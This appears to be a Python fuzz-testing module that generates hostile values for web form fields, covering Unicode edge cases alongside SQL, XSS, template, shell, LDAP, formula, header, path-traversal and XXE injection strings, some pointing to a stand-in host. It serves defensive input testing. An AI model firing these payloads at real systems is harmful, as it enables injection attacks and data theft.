"""Makes hostile values for form fields: every kind of text that a field must survive.

``naughty_by_class`` names the kinds; ``naughty_values`` deals them out one kind after the other, so
that a small count still meets many kinds, and then mixes them at random from a seed. Invisible and
ambiguous characters are written as escapes, so that this file says what it holds.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable, Iterator
from itertools import zip_longest
from urllib.parse import quote

BODY_LIMIT = 64 * 1024  # bytes the site takes in one request
MARGIN = 4 * 1024  # left for the form's other fields, so that the value reaches the form's rules
LONGEST = BODY_LIMIT - MARGIN  # in percent-encoded bytes

PHONE, CARD, CODE, DATE = "0612345678", "AB123456", "481516", "2001-03-09"
EMAIL, RIB, LATIN, ARABIC = "salma@etu.example", "10203040", "Salma", "سلمى"
ORDINARY = (PHONE, CARD, CODE, DATE, EMAIL, RIB, LATIN, ARABIC, "1", "Aït Baha", "سلمى بنت علي")

BIDI_MARKS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = "\u200b\u200c\u200d\u2060\u2061\u00ad\u034f\u180e\ufeff\u3164\uffa0\U000e0041"
SPACES = "\t\n\v\f\r\u0085\u00a0\u1680\u2000\u2003\u2007\u2009\u2028\u2029\u202f\u205f\u3000"
CONTROLS = "".join(map(chr, [*range(1, 9), *range(14, 32), *range(127, 133)]))
ZEROS = {  # the digit nought of each script; one to nine follow it
    "arabic-indic": 0x660,
    "persian": 0x6F0,
    "nko": 0x7C0,
    "devanagari": 0x966,
    "bengali": 0x9E6,
    "thai": 0xE50,
    "full-width": 0xFF10,
    "mathematical bold": 0x1D7CE,
    "mathematical monospace": 0x1D7F6,
}
STACKED = "\u0300\u0316\u0334\u0489\u035c\u0651\u064b\u0670"
FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"


def to_form_bytes(value: str) -> str:
    """Percent-encode a value for a form's body, lone surrogates included."""
    return quote(value, safe="", encoding="utf-8", errors="surrogatepass")


def in_digits(value: str, zero: int) -> str:
    """Write a value's digits in the script that has its nought there."""
    return "".join(chr(zero + int(char)) if char in "0123456789" else char for char in value)


def fill(piece: str) -> str:
    """Repeat a piece as often as one request can carry."""
    return piece * (LONGEST // len(to_form_bytes(piece)))


def _empty() -> Iterator[str]:
    yield from ("", " ", "   ", "\u00a0 \u3000", "\r\n", "\n\n\n", "-", ".", "_", "''", '""')
    yield from ("0", "/")
    yield from SPACES


def _control() -> Iterator[str]:
    yield from ("\0", f"{CODE}\0", f"\0{CARD}", f"{EMAIL}\0.evil.example", f"{LATIN}\0\0{LATIN}")
    yield from CONTROLS
    yield from (f"{LATIN}{char}{CODE}" for char in "\x01\x07\x08\x1b\x7f\x85")
    yield from ("\x1b[2J\x1b[31mred", "\x1b]0;title\x07", f"{CODE}\x08\x08\x08999", "\x1a", "\x04")


def _surrogate() -> Iterator[str]:
    yield from ("\ud800", "\udbff", "\udc00", "\udfff", "\udc80", f"{LATIN}\ud83d", f"\ude00{CODE}")
    yield from ("\ud83d\ude00", "\ude00\ud83d", f"06\udcff{PHONE}")
    yield from ("a\ud800@etu.example", "\ud800" * 300)


def _not_a_character() -> Iterator[str]:
    yield from ("\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "\ufffd", "\ue000")
    yield from (f"{CARD}\uffff", f"{LATIN}\ufffd{LATIN}", "\U000f0000", "\u0378")


def _bidi() -> Iterator[str]:
    for mark in BIDI_MARKS:
        yield from (mark, f"{mark}{PHONE}", f"{CODE[:3]}{mark}{CODE[3:]}", f"{EMAIL}{mark}")
    yield from ("\u202e654321", "\u202d06\u202c12", f"\u2067{ARABIC}\u2069 {CARD}", "\u202e" * 200)
    yield from (f"{LATIN} \u202egpj.exe", "\u2066" * 131 + CODE, "\u2069\u2069\u202c")


def _unseen() -> Iterator[str]:
    for mark in UNSEEN:
        yield from (mark, f"{mark}{CARD}", f"{PHONE[:4]}{mark}{PHONE[4:]}", f"{LATIN}{mark}")
    yield from ("\ufeff" * 50, "\u200b".join(EMAIL), "\u2060".join(CODE), "\U000e0061\U000e007f")


def _digits() -> Iterator[str]:
    for zero in ZEROS.values():
        yield from (in_digits(value, zero) for value in (CODE, PHONE, CARD, DATE, RIB, "+212 0"))
    yield from ("\u2460\u2461\u2462", "\u2163", "\u00b2\u00b3", "\u00bd", "\u4e00\u4e8c")
    yield from ("\u3007" * 6, "4\u06681\u0665\uff116", "\u0664\u06f8\u0661")
    yield from ("\u066a\u066b\u066c", "\U00010a41")


def _stacked() -> Iterator[str]:
    for word in (LATIN, CODE, ARABIC, EMAIL):
        yield "".join(char + STACKED * 2 for char in word)
    yield from ("a" + "\u0301" * 500, "\u0301", "\u064b" * 40, "\u20dd\u20e0", f"{STACKED}{CARD}")
    yield from ("\u0e49" * 60, "\u1ab0\u1dc0", "\ufdfd" * 20, "\ufdfa" * 100, "\U0001242b" * 20)


def _emoji() -> Iterator[str]:
    yield from (FAMILY, FAMILY * 40, "\U0001f600", "\U0001f1f2\U0001f1e6", "\U0001f44d\U0001f3fe")
    yield from ("\u2764\ufe0f\u200d\U0001f525", "1\ufe0f\u20e3", "\u263a\ufe0e", "\U0001f1f2")
    yield from ("\ufe0f", f"{LATIN}\U0001f98a", f"{CODE}\U0001f4a5")
    yield from ("\u200d\U0001f469", f"{FAMILY}@etu.example")


def _right_to_left() -> Iterator[str]:
    yield from (ARABIC, f"{ARABIC} {LATIN}", f"{LATIN} {ARABIC} {CODE}", f"{ARABIC}@etu.example")
    yield from ("سـلـمـى", "سَلْمَى", "الاسم الكامل: سلمى", "«سلمى»", "ﺳﻠﻤﻰ", "ﷲ", "ی ک ہ", "؟،؛")
    yield from ("שלום", "ܫܠܡܐ", "ⵙⴰⵍⵎⴰ", "ޝަލްމާ", f"({ARABIC}")
    yield from (f"{ARABIC})", f"{CARD}/{ARABIC}/{DATE}")


def _sql() -> Iterator[str]:
    yield from ("' OR 'a'='a", "') OR 1=1 --", '" OR ""="', "1; DROP TABLE account", "'", "''")
    yield from ("\\'", f"{CARD}' UNION SELECT sql FROM sqlite_master --")
    yield from ("'||(SELECT version())||'", "%' --", "1 OR SLEEP(9)", "'; SELECT pg_sleep(9) --")
    yield from ("a'/**/OR/**/'b'<'c", "%", "_", "?", ":id", "\u02bc OR 1=1")
    yield from ("\u2019; DELETE FROM account", "$1", "$$x$$", "1) RETURNING (1", "`")


def _html() -> Iterator[str]:
    yield from ("<script>top.x=1</script>", "</title><h1>x", "<b>gras", "<!--", "-->", "]]>", "<")
    yield from (">", '"><img src=q onerror=x()>', "'><svg/onload=x()>", '" autofocus onfocus="x()')
    yield from ("<br/>", "</textarea><script src=//e.example>", "<a href=javascript:x()>a</a>")
    yield from ("<style>*{}", "<base href=//e.example>")
    yield from ('<meta http-equiv=refresh content="0;//e.example">', "<?php", "&lt;b&gt;")
    yield from ("&amp;amp;", "&#x3c;i&#62;", "&copy", "&notanentity;", "\uff1cb\uff1e")
    yield from ('<form action="//e.example">', "<main hx-get=/x hx-trigger=load>")
    yield from ("<template><p>", "&")


def _script() -> Iterator[str]:
    yield from ("javascript:x()", "JaVa\tScRiPt:x()", "data:text/html,<b>x", "');x();//")
    yield from ("\\';x();//", "${x()}", "`+x()+`", "__proto__", "constructor", "toString")
    yield from ("[object Object]", "\\u003cb", "function(){}", "undefined", "null", "\u2028x()")
    yield from ("</script", "//# sourceURL=x", "eval(x)")


def _template() -> Iterator[str]:
    yield from ("{{ 7 * 191 }}", "{{ config }}", "{% for a in b %}", "{# a #}", "{{", "}}", "{%")
    yield from ("%}", "{{ ''.__class__.__mro__ }}", "{{ request.environ }}", "{% raw %}")
    yield from ("#{7*191}", "<%= 1 %>", "{% include '/etc/hosts' %}", "{{ url_for.__globals__ }}")
    yield from ("${{7*191}}", "{{'x'*99999999}}")


def _format() -> Iterator[str]:
    yield from ("%s", "%d%d%d", "%n", "%(name)s", "%(", "%99999999s", "%%", "100%", "%*.*f")
    yield from ("%\u0000s", "{}", "{0}", "{name}", "{0.__class__}", "{!r}", "{:>99999999}", "{")
    yield from ("}", "{{}", "$name", "_('x')", "\\n", "\\x00", "\\u202e", "\\", "\\\\")
    yield from ("\\N{BULLET}", "\\1", "(?P<a>", "[a-z")


def _directory() -> Iterator[str]:
    yield from ("*)(uid=*", "*", "admin)(&)", "(|(cn=*))", "\\2a", "cn=a,dc=b")
    yield from ("x' or name()='y", "//*")


def _shell() -> Iterator[str]:
    yield from ("; id", "| id", "$(id)", "`id`", "&& id", "--help", "-rf", "@/etc/hosts", "> /x")
    yield from ("$HOME", "%COMSPEC%", "\n/bin/true\n", "() { :; }; id", "!!", "~")
    yield from ("*.py", "${jndi:ldap://e.example}")


def _formula() -> Iterator[str]:
    yield from ("=1+191", "+1+191", "-1+191", "@SUM(A1)", "\t=1+191", "\r=1+191", "=cmd|' /C x'!A0")
    yield from ('=HYPERLINK("//e.example")', '"=1+191"', "a,b;c\td", '"a""b', '"a\nb"')
    yield from ("\uff1d1+1", "'=1")


def _header() -> Iterator[str]:
    for line in ("Set-Cookie: a=b", "Bcc: all@e.example", "Location: //e", "HX-Redirect: //e"):
        yield from (f"{LATIN}\r\n{line}", f"{EMAIL}\n{line}", f"{CODE}%0d%0a{line}")
    yield from ("\r\n\r\n<b>x", "\r\n.\r\n", "\u560d\u560a X: 1", "=?utf-8?q?=0D=0AX?=")
    yield from (f"{LATIN}\rX: 1", "//e.example", "\\\\e.example", "/\\e.example", "https:e.example")
    yield from ("/\t/e.example", "?#")


def _path() -> Iterator[str]:
    yield from ("../" * 8 + "etc/hosts", "..\\..\\boot.ini", "/etc/hosts", "....//....//x", "..")
    yield from ("./.", "..%2f..%2fx", "%2e%2e/x", "..%c0%afx", "..;/x", "x.pdf\0.html")
    yield from ("file:///etc/hosts", "a/", "CON", "nul.txt", "C:\\x", "\\\\e.example\\x")
    yield from (".htaccess", "x.pdf.", "a:b", "\u2025/x")


def _percent() -> Iterator[str]:
    yield from ("%00", "%", "%2", "%zz", "%25", "%2525252e", "%u0041", "%c0%80", "%ed%a0%80")
    yield from ("%ff%fe", "%f4%90%80%80", "a+b", "a%20b", "a&b=c", "csrf_token=x", "a;b=c", "=")
    yield from ("&&==", "%D8%B3", "=D8=B3", "2LM=", "xn--", "\u00d8\u00b3", "Ã©", "&#1587;")
    yield from ("\\330\\263", "+-+-", "+AGE-")


def _long() -> Iterator[str]:
    yield from map(fill, ("a", "9", " ", "<", "{{", "a@", "[", "(", "\n", "\0", "%", "../", "' "))
    yield from map(fill, ("\u0633", "\u0663", "\U0001f600", FAMILY, "\u0301", "\ufdfa", "\u202e"))
    yield fill("I\u0307")
    yield from ("a" * 129, "a" * 255, "a" * 256, "a" * 1025, "\u0633" * 129, "1" * 4301)
    yield from ("ab" * 2048, f"{'a' * 9000}!", f"{' ' * 9000}{CODE}")
    yield from (f"{CODE}{' ' * 9000}", f"{'0' * 9000}{CODE}")


def _number() -> Iterator[str]:
    yield from ("-1", "-0", "+1", "00", "01", "1.0", "1,5", "1.", ".5", "1e9", "1E400", "1e-400")
    yield from ("0x1F", "0b11", "0o17", "017", "1_000", "1 000", "1'000", "NaN", "nan", "-nan")
    yield from ("Infinity", "-inf", "2147483648", "-2147483649", "9223372036854775808")
    yield from ("18446744073709551616", "1" * 400, "0.1e1", "1/3", "\u22121", "\u221e", "\u00bc")
    yield from ("\uff0d1", "١٫٥", "true", "True", "None", "1L")


def _date() -> Iterator[str]:
    yield from ("2001-02-29", "1900-02-29", "2000-02-30", "2001-13-01", "2001-00-10", "2001-04-31")
    yield from ("0000-00-00", "0000-01-01", "-001-01-01", "9999-12-31", "10000-01-01")
    yield from ("99999-99-99", "2999-01-01", "1850-01-01", "31/02/2001", "09/03/01", "03-09-2001")
    yield from ("2001-3-9", "20010309", "2001-W10-5", "2001-068", "2001-03-09T24:00:60Z")
    yield from ("983404800", "yesterday", "9 mars 2001", "1421-12-14", "2001\u201003\u201009")
    yield from ("٢٠٠١-٠٣-٠٩", "2001-03-09\n", "32", "00", "2001-03-0x9")


def _email() -> Iterator[str]:
    yield from (f"{EMAIL}\n", f"\n{EMAIL}", f"{EMAIL} ", "a@b@etu.example", "@etu.example", "a@")
    yield from ("@", "a", '"a b"@etu.example', '"a@b"@etu.example', '"\\""@etu.example')
    yield from ('""@etu.example', "a@[::1]", "a@[10.0.0.1]", "a@[IPv6:::1]", "a@localhost")
    yield from ("a@example", "a@10.0.0.1", "a@.example", f"{'a' * 64}@etu.example")
    yield from (f"{'a' * 65}@etu.example", f"a@{'b' * 63}.example", f"a@{'b' * 64}.example")
    yield from (f"a@{'b.' * 124}example", ".a@etu.example", "a..b@etu.example", "a.@etu.example")
    yield from ("a+b@etu.example", "a@etu..example", "a@-b.example", "a@b-.example")
    yield from ("a@université.example", "a@xn--universit-i4a.example", "a@xn--a.example")
    yield from ("a@xn--.example", "سلمى@جامعة.example", "é@etu.example", "e\u0301@etu.example")
    yield from ("a@etu\u3002example", "a@\u0435tu.example", "a@etu.example.", "A@ETU.EXAMPLE")
    yield from ("a%b@etu.example", "a!b@etu.example", f"Salma <{EMAIL}>", f"mailto:{EMAIL}")
    yield from (f"{EMAIL},b@etu.example", f"{EMAIL};{EMAIL}", "a(x)@etu.example")
    yield from ("a@etu.example(x)", "a @ etu.example", "a\uff20etu.example", "'@etu.example")
    yield from ("a@b_c.example", f"{EMAIL}\r\nDATA", "-oQ/x@etu.example", "a@ß.example")
    yield from ("a@\u0130.example", "a@\u2488example")


def _phone() -> Iterator[str]:
    yield from ("+212612345678", "00212612345678", "212612345678", "+2120612345678")
    yield from ("+212 (0) 6 12 34 56 78", "06.12.34.56.78", "06-12-34-56-78", "06 12 34 56 78")
    yield from ("061234567", "06123456789", "0512345678", "0812345678", "612345678", "+33612345678")
    yield from ("+1 900 555 0100", "15", "112", "+", "++212612345678", "tel:+212612345678")
    yield from ("0612345678,0612345679", "0612345678;ext=9", "0612345678#1", "*21*06#")
    yield from ("O612345678", "06l2345678", "\uff0b212612345678", "06\u201012345678")
    yield from ("0612345678p1", "06 12 34", "0000000000", "0600000000", "+212\u00a0612\u202f345678")
    yield from ("(06)12345678", "0612345678\n")


def _normal_form() -> Iterator[str]:
    for word in ("Aïcha", "Zoé", "Ñandú", "Åsa", "Việt", "آمنة", "مؤمن", "\uac00"):
        yield from (unicodedata.normalize("NFC", word), unicodedata.normalize("NFD", word))
    yield from ("\ufb01n", "o\ufb00ice", "\u01c4", "\u0132", "\u0149", "\ufefb", "\u2126", "\u212b")
    yield from ("\u017f", "I\u0307", "\u0130", "\u0131", "i\u0307", "\u0130stanbul", "STRASSE")
    yield from ("stra\u00dfe", "\u1e9e", "\u03a3\u03c2", "\u0390", "\u1fd3", "\uff21\uff22")
    yield from ("\U0001d400", "\u24b6", "\u212a", "A\u0315\u0300", "\u0410B123456", "\u0391B123456")
    yield from ("\uff21B123456", "ab123456", "AB 123456", "\u13aaB123456")


def _json() -> Iterator[str]:
    yield from ("{}", "[]", "null", '"', '{"a":1,"a":2}', '{"$ne":null}', '{"__proto__":{}}')
    yield from ("[1e999]", "[" * 3000, '{"a":' * 900, '{"a":"\\ud800"}', "{'a':1}", '{"a":1}}')
    yield from ('\\"', "[NaN]", '{"$gt":""}')


def _xml() -> Iterator[str]:
    yield from ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>', "<![CDATA[x]]>", "&b;")
    yield from ("&#0;", '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>')
    yield from ("<?xml version='9'?>", '<!DOCTYPE a SYSTEM "//e.example/x">', "&#xD800;")
    yield from ("<a xmlns:b='c'/>", "&#1114112;", "<a b=c>")


CLASSES: dict[str, Callable[[], Iterator[str]]] = {
    "empty": _empty,
    "control": _control,
    "surrogate": _surrogate,
    "not a character": _not_a_character,
    "bidi": _bidi,
    "unseen": _unseen,
    "digits": _digits,
    "stacked": _stacked,
    "emoji": _emoji,
    "right to left": _right_to_left,
    "sql": _sql,
    "html": _html,
    "script": _script,
    "template": _template,
    "format": _format,
    "directory": _directory,
    "shell": _shell,
    "formula": _formula,
    "header": _header,
    "path": _path,
    "percent": _percent,
    "long": _long,
    "number": _number,
    "date": _date,
    "email": _email,
    "phone": _phone,
    "normal form": _normal_form,
    "json": _json,
    "xml": _xml,
}


def naughty_by_class() -> dict[str, list[str]]:
    """Give the written values of each kind, each value once within its kind."""
    return {name: list(dict.fromkeys(make())) for name, make in CLASSES.items()}


def _mixed(rng: random.Random, pieces: list[str]) -> str:
    """Make one value out of others: joined, inserted, wrapped, cut, turned or rewritten."""
    base, extra = rng.choice([rng.choice(ORDINARY), rng.choice(pieces)]), rng.choice(pieces)
    at = rng.randint(0, len(base))
    marks = BIDI_MARKS + UNSEEN + SPACES + CONTROLS + STACKED
    ways: list[Callable[[], str]] = [
        lambda: base + extra,
        lambda: base[:at] + extra + base[at:],
        lambda: base[:at] + rng.choice(marks) * rng.randint(1, 9) + base[at:],
        lambda: rng.choice(BIDI_MARKS) + base + rng.choice(BIDI_MARKS) + extra,
        lambda: rng.choice(marks).join(base) + rng.choice(marks),
        lambda: in_digits(base + CODE, rng.choice(list(ZEROS.values()))) + extra,
        lambda: unicodedata.normalize(rng.choice(["NFD", "NFKD", "NFKC"]), base + ARABIC) + extra,
        lambda: to_form_bytes(base + extra)[: rng.randint(5, 400)],
        lambda: (extra + base)[::-1],
        lambda: (base + extra).swapcase() * rng.randint(2, 4),
        lambda: "".join(rng.choice(marks + base + extra) for _ in range(rng.randint(2, 60))),
        lambda: "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randint(1, 40))),
    ]
    return rng.choice(ways)()


def naughty_values(count: int = 1000, seed: int = 2) -> list[str]:
    """Give hostile values, all different, the same for the same count and seed."""
    written = naughty_by_class()
    dealt = (
        value for turn in zip_longest(*written.values()) for value in turn if value is not None
    )
    values = dict.fromkeys(dealt)
    pieces = [value for value in values if len(value) < 1000]
    rng = random.Random(seed)
    while len(values) < count:
        values.setdefault(_mixed(rng, pieces))
    return list(values)[:count]
